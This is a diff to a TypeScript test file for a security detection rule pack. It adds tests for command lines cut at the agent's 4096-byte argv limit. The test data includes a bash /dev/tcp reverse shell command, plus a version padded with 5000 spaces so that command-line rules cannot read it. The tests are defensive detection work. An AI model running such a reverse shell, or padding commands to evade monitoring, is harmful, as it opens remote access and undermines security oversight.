@@ -77,6 +77,49 @@ describe('default rule pack', () => {
   });
 });
 
+// ----- command lines cut at the agent's argv limit -----
+
+describe('default rule pack: code cut at the argv limit', () => {
+  /** The exec event of `argv` as the agent makes it with the default limit (4096 bytes of argv). */
+  const cutExec = (argv: string[], extra: Record<string, unknown> = {}) => {
+    const whole = Buffer.from(argv.map((a) => `${a}\0`).join(''));
+    const kept = whole.subarray(0, 4096).toString('utf8').split('\0');
+    if (kept.at(-1) === '') kept.pop();
+    return {
+      '@timestamp': new Date(BASE).toISOString(),
+      event: { id: `cut-${++n}`, action: 'exec', outcome: 'success' },
+      host: { name: 'dev-01' },
+      process: { pid: 4242, name: 'bash', executable: '/usr/bin/bash', args: kept, command_line: kept.join(' '), user: { id: '0', name: 'root' }, parent: { pid: 4241, name: 'timeout' } },
+      hades: { process: { args_truncated: whole.length > 4096, args_bytes: whole.length }, ...extra },
+    };
+  };
+
+  it('reports a reverse shell padded past the limit, which no command-line rule can read', () => {
+    // timeout 2 bash -c "$(printf ' %.0s' {1..5000})bash -i >& /dev/tcp/127.0.0.1/4445 0>&1"
+    const padded = cutExec(['bash', '-c', `${' '.repeat(5000)}bash -i >& /dev/tcp/127.0.0.1/4445 0>&1`]);
+    assert.equal(padded.hades.process.args_truncated, true);
+    const matches = [...pack.ruleSet.match(padded)];
+    assert.deepEqual(matches.map((m) => `${m.rule.id} ${m.severity}`), ['inline_code_cut_from_view medium']);
+    assert.match(matches[0]!.output, /cut at 5048 bytes/);
+    // Seen whole, the same command is the critical reverse shell.
+    const whole = [...pack.ruleSet.match(cutExec(['bash', '-c', 'bash -i >& /dev/tcp/127.0.0.1/4445 0>&1']))].map((m) => m.rule.id);
+    assert.deepEqual(whole, ['reverse_shell_dev_tcp']);
+  });
+
+  it('leaves alone arguments cut after the code, scripts with long arguments, and package managers', () => {
+    const files = Array.from({ length: 400 }, (_, i) => `/var/log/app/archive-${i}.log`);
+    const quiet = [
+      cutExec(['sh', '-c', 'gzip -9 "$@"', 'sh', ...files]),
+      cutExec(['/bin/bash', './libtool', '--mode=link', 'gcc', ...files]),
+      cutExec(['/bin/sh', '-c', `for f in ${files.join(' ')}; do rm -f "$f"; done`], { ancestors: [{ pid: 600, name: 'dpkg', executable: '/usr/bin/dpkg' }] }),
+    ];
+    for (const e of quiet) {
+      assert.equal(e.hades.process.args_truncated, true);
+      assert.deepEqual([...pack.ruleSet.match(e)].map((m) => m.rule.id), [], e.process.command_line.slice(0, 60));
+    }
+  });
+});
+
 // ----- a benign admin and developer workload: no high or critical alert -----
 
 const BASE = Date.parse('2026-03-02T10:00:00.000Z');
